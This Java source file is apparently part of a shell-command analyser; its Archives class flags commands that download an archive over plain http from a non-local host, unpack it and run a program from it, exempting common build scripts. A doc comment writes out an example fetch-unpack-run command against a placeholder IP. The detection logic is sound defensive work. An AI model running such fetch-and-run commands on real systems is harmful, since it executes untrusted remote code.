package davy.core.shell;

import davy.core.shell.Downloads.Download;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/// Archives that are downloaded from where nobody can vouch for them, unpacked, and run: `curl
/// http://192.0.2.1/t.tgz | tar xzf - && ./t/run`.
final class Archives {
    private static final List<String> ENDINGS =
            List.of(".tgz", ".tar", ".tar.gz", ".tar.xz", ".tar.bz2", ".zip", ".gz", ".xz", ".bz2");

    /// What people build and install with, from any source.
    private static final Set<String> BUILDERS =
            Set.of(
                    "configure",
                    "autogen",
                    "bootstrap",
                    "gradlew",
                    "mvnw",
                    "build",
                    "make",
                    "config");

    private Archives() {}

    /// Whether what an archive brought is run; one by https, and one of this machine, is no sign.
    static boolean isRun(Scene scene, Download download) {
        if (download.urls().isEmpty() || !download.urls().stream().allMatch(Archives::isForeign)) {
            return false;
        }
        int unpacked = unpacked(scene, download);
        if (unpacked < 0) {
            return false;
        }
        for (var call : scene.calls) {
            if (call.command().index() > unpacked && isFromArchive(call.runs())) {
                return true;
            }
        }
        return false;
    }

    private static boolean isForeign(String url) {
        return url.startsWith("http://") && !Urls.isLocal(url);
    }

    /// The index of the command that unpacks the download, or -1.
    private static int unpacked(Scene scene, Download download) {
        for (var reader : scene.readers(download.call())) {
            if (reader.is("tar", "bsdtar", "cpio", "unzip")) {
                return reader.command().index();
            }
        }
        String file = download.file();
        String name = file.substring(file.lastIndexOf('/') + 1);
        if (ENDINGS.stream().noneMatch(name.toLowerCase(Locale.ROOT)::endsWith)) {
            return -1;
        }
        for (var call : scene.calls) {
            boolean names = call.arguments().stream().anyMatch(word -> word.text().endsWith(name));
            boolean later = call.command().index() > download.call().command().index();
            if (later && names && call.is("tar", "bsdtar", "unzip", "gunzip", "gzip", "xz", "7z")) {
                return call.command().index();
            }
        }
        return -1;
    }

    /// Something below the folder that one is in, or in a temporary one.
    private static boolean isFromArchive(String program) {
        boolean below =
                program.startsWith("./")
                        || program.startsWith("/tmp/")
                        || program.startsWith("/var/tmp/")
                        || program.startsWith("/dev/shm/")
                        || program.indexOf('/') > 0 && !program.startsWith("~");
        String name = program.substring(program.lastIndexOf('/') + 1);
        int dot = name.indexOf('.');
        String stem = dot > 0 ? name.substring(0, dot) : name;
        boolean builds =
                BUILDERS.contains(stem) || stem.startsWith("install") || stem.startsWith("setup");
        return below && !builds && !name.isEmpty();
    }
}
